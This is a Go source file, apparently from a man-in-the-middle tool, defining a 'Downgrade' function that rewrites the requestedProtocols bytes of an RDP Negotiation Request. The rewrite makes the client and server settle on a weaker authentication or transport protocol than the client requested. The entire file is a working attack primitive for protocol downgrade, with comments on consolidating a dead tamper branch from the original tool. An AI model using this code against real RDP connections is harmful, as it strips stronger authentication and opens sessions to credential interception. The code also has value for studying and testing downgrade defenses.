// Package downgrade rewrites the RDP Negotiation Request's requested
// protocol field so the client and server settle on a weaker
// authentication/transport variant than the client originally asked for,
// per spec section 4.8.
//
// The original source tool carried two separate code paths for this: a
// working downgradeAuth wired into protocol-negotiation handling, and a
// second, never-effective setFakeRequestedProtocol/tamperData branch (its
// own "McDn" byte-marker heuristic) left behind a TODO comment saying it
// should be folded into the general tamper pass but never was, and which
// wrote back the pre-downgrade value rather than the downgraded one on the
// rare occasions it did trigger. This package is the single rewrite
// primitive both the negotiation handshake and internal/tamper call,
// finishing what that TODO left undone instead of reproducing the dead
// branch's stale-value quirk.
package downgrade

// rewriteLen is the number of trailing bytes the RDP Negotiation Request
// layout rewrites: flags(1) + length(2, little-endian 0x0008) +
// requestedProtocols(4, little-endian, only the low byte ever non-zero for
// the four protocol values this tool understands).
const rewriteLen = 7

// Downgrade inspects the last 4 bytes of pdu (the little-endian
// requestedProtocols field of an RDP Negotiation Request) and, if the
// client asked for a protocol at or above target, rewrites the final 7
// bytes so the request reads as if the client had asked for target
// instead. It reports whether a rewrite was made; pdu is never mutated,
// the (possibly) rewritten copy is returned separately.
func Downgrade(pdu []byte, target int) ([]byte, bool) {
	if len(pdu) < rewriteLen {
		return pdu, false
	}

	current := int(pdu[len(pdu)-4])
	if current < target {
		// Client already requested something weaker than the configured
		// downgrade target; nothing to do.
		return pdu, false
	}

	out := append([]byte{}, pdu...)
	n := len(out)
	out[n-7] = 0x00
	out[n-6] = 0x08
	out[n-5] = 0x00
	out[n-4] = byte(target)
	out[n-3] = 0x00
	out[n-2] = 0x00
	out[n-1] = 0x00
	return out, true
}
